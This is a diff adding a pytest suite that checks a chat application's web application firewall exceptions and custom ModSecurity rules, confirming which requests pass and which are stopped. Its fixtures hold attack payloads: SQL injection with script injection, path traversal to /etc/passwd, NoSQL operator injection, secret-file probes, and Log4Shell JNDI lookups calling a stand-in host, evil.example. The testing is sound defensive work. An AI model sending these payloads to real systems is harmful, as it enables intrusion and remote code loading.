@@ -1,0 +1,205 @@
+"""Each exception and each rule of our own in deploy/waf: what it lets pass or stops, and no more than that."""
+
+import re
+from collections.abc import Iterator
+from pathlib import Path
+from urllib.parse import quote
+
+import pytest
+
+from tests.operation.waf.attacks import request
+from tests.operation.waf.sink import Sink
+from tests.operation.waf.site import WAF, Site, send
+from tests.waiting import wait_until
+
+ATTACK = "1' UNION SELECT 1,2 FROM users-- <script>alert(1)</script>"
+ROOM = "/api/v1/rooms/06h1w46y97wh380z0cja"
+
+
+def json_request(path: str, body: str, method: str = "POST") -> bytes:
+    return request(method, path, "Content-Type: application/json", body=body.encode())
+
+
+def field(name: str, path: str, method: str = "POST") -> bytes:
+    return json_request(path, f'{{"{name}": "{ATTACK}"}}', method)
+
+
+def by_get(**parameters: str) -> bytes:
+    given = "&".join(f"{name}={quote(value)}" for name, value in parameters.items())
+    return request("GET", f"/graphql?{given}")
+
+
+# Of each exception: requests that pass with it and not without, and like ones that are stopped all the same.
+EXCLUSIONS: dict[str, tuple[list[bytes], list[bytes]]] = {
+    "9590100": (
+        [json_request(f"{ROOM}/messages", '{"body": "%uff41 GET /x HTTP/1.1"}')],
+        [request("POST", "/api/v1/login", "Content-Type: text/plain", body=b"%uff41")],
+    ),
+    "9590110": (
+        [field("body", f"{ROOM}/messages"), field("body", f"{ROOM}/messages/06h1", "PATCH")],
+        [
+            field("client_id", f"{ROOM}/messages"),
+            field("body", f"{ROOM}/members"),
+            json_request(f"{ROOM}/messages", f'{{"body": {{"x": "{ATTACK}"}}}}'),
+            json_request(f"{ROOM}/messages?body={quote(ATTACK)}", '{"body": "x"}'),
+        ],
+    ),
+    "9590120": (
+        [field("body", "/hooks/builds"), field("text", "/hooks/builds")],
+        [field("id", "/hooks/builds"), field("text", f"{ROOM}/messages")],
+    ),
+    "9590130": (
+        [
+            field("name", "/api/v1/rooms"),
+            field("topic", "/api/v1/rooms"),
+            field("name", ROOM, "PATCH"),
+        ],
+        [field("kind", "/api/v1/rooms"), field("name", f"{ROOM}/members")],
+    ),
+    "9590140": (
+        [field("password", "/api/v1/register"), field("password", "/api/v1/login")],
+        [field("username", "/api/v1/login"), field("password", "/api/v1/rooms")],
+    ),
+    "9590150": ([field("name", "/api/v1/register")], [field("name", "/api/v1/login")]),
+    "9590160": (
+        [
+            by_get(query=f'{{search(text: "{ATTACK}") {{nodes {{id}}}}}}'),
+            by_get(query="{me{id}}", variables=f'{{"t": "{ATTACK} ../../etc/passwd"}}'),
+        ],
+        [
+            by_get(query="{me{id}}", operationName=ATTACK),
+            by_get(query="{me{id}}", other="../../etc/passwd"),
+            request("GET", f"/?query={quote(ATTACK)}"),
+            request("GET", f"/api/v1/rooms?variables={quote(ATTACK)}"),
+        ],
+    ),
+    "9590170": (
+        [request("GET", "/api/v1/users/jan.old"), request("GET", "/api/v1/users/dev.log")],
+        [request("GET", "/api/v1/users/jan.old/x.bak"), request("GET", "/jan.old")],
+    ),
+    "query$/": (
+        [field("query", "/graphql"), json_request("/graphql", f'[{{"query": "{ATTACK}"}}]')],
+        [
+            field("operationName", "/graphql"),
+            field("query", "/api/v1/login"),
+            field("querys", "/graphql"),
+        ],
+    ),
+    "variables\\./": (
+        [
+            json_request(
+                "/graphql", f'{{"query": "x", "variables": {{"input": {{"body": "{ATTACK}"}}}}}}'
+            ),
+            json_request("/graphql", f'[{{"query": "x", "variables": {{"ids": ["{ATTACK}"]}}}}]'),
+        ],
+        [
+            json_request("/graphql", f'{{"query": "x", "extensions": {{"a": "{ATTACK}"}}}}'),
+            json_request("/graphql", f'{{"query": "x", "variables": {{"{ATTACK}": 1}}}}'),
+            json_request("/api/v1/login", f'{{"variables": {{"a": "{ATTACK}"}}}}'),
+        ],
+    ),
+}
+
+# Of each rule of our own: requests that it stops, and like ones that pass.
+RULES: dict[str, tuple[list[bytes], list[bytes]]] = {
+    "9590300": (
+        [
+            json_request("/api/v1/login", '{"query": "{me{id}}"}'),
+            json_request("/graphql/x", '[{"variables": {"a": 1}}]'),
+        ],
+        [json_request("/graphql", '{"query": "{me{id}}", "variables": {"a": 1}}')],
+    ),
+    "9590310": (
+        [
+            json_request("/api/v1/login", '{"username": {"$ne": null}}'),
+            request("GET", "/api/v1/rooms?after[$gt]="),
+        ],
+        [json_request("/api/v1/login", '{"user_name-1.x": {"ne": null}}')],
+    ),
+    "9590320": (
+        [
+            request("GET", "/", "User-Agent: ${jndi:ldap://evil.example/a}"),
+            request("GET", "/", "Cookie: a=%24%7B%24%7Blower:j%7Dndi:x}"),
+        ],
+        [request("GET", "/", "User-Agent: ${product}/1.0 {x}")],
+    ),
+    "9590330": (
+        [request("GET", "/x%3Cy"), request("GET", "/static/....//x"), request("GET", "/.env.local"),
+         request("GET", "/WEB-INF/web.xml")],
+        [
+            request("GET", "/api/v1/users/Ada%20(Sales)%20%3Cada%3E"),
+            request("GET", "/.well-known/security.txt"),
+            request("GET", "/static/app.1a2b.js"),
+        ],
+    ),
+    "9590340": (
+        [request("GET", "/api/v1/me", "Cookie: chat_session=a%20b"), request("GET", "/", "Cookie: chat_device=(x)")],
+        [request("GET", "/api/v1/me", "Cookie: chat_session=06h1.Ab-_9; other=a%20(b)")],
+    ),
+    "9590001": (
+        [json_request("/api/v1/rooms", f'{{"members": [{",".join(["1"] * 600)}]}}')],
+        [json_request("/api/v1/rooms", f'{{"members": [{",".join(["1"] * 400)}]}}')],
+    ),
+    "9590002": (
+        [json_request("/api/v1/login", '{"username": "a"')],
+        [json_request("/api/v1/login", '{"username": "a"}')],
+    ),
+}  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def sink() -> Iterator[Sink]:
+    with Sink() as sink:
+        yield sink
+
+
+@pytest.fixture(scope="module")
+def site(sink: Sink, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
+    with Site(tmp_path_factory.mktemp("site") / "nginx", sink.port) as site:
+        yield site
+
+
+def passes(site: Site, sink: Sink, what: bytes) -> bool:
+    """Whether the request reaches the upstream."""
+    before = len(sink.reached)
+    status = send(site, what)
+    reached = len(sink.reached) > before
+    assert reached == (status == 200), (status, what)
+    return reached
+
+
+def ids_in(*names: str) -> set[str]:
+    text = "".join((WAF / name).read_text() for name in names)
+    return set(re.findall(r"\bid:(\d+)", text)) | set(
+        re.findall(r"!ARGS:/\S*?(\w+(?:\\\.|\$)/)", text)
+    )
+
+
+@pytest.mark.parametrize("exclusion", EXCLUSIONS)
+def test_an_exception_lets_its_field_pass_and_nothing_else(
+    site: Site, sink: Sink, tmp_path: Path, exclusion: str
+) -> None:
+    legal, attacks = EXCLUSIONS[exclusion]
+    assert [each for each in legal if not passes(site, sink, each)] == []
+    assert [each for each in attacks if passes(site, sink, each)] == []
+    with Site(tmp_path / "without", sink.port, without=exclusion) as without:
+        assert [each for each in legal if passes(without, sink, each)] == [], "it is not needed"
+
+
+@pytest.mark.parametrize("rule", RULES)
+def test_a_rule_of_our_own_stops_its_attack_and_nothing_else(
+    site: Site, sink: Sink, rule: str
+) -> None:
+    attacks, legal = RULES[rule]
+    for attack in attacks:
+        before = len(site.matches())
+        assert not passes(site, sink, attack), attack
+        wait_until(lambda known=before: len(site.matches()) > known)  # logged after the answer
+        assert rule in site.matches()[-1]["rules"], attack
+    assert [each for each in legal if not passes(site, sink, each)] == []
+
+
+def test_every_exception_and_every_rule_has_its_test() -> None:
+    assert ids_in("exclusions-before.conf", "exclusions-after.conf") == set(EXCLUSIONS)
+    untried = {"9590000", "9590003"}  # chooses the parser; ends what cost too much
+    assert ids_in("rules.conf", "modsecurity.conf") == set(RULES) | untried
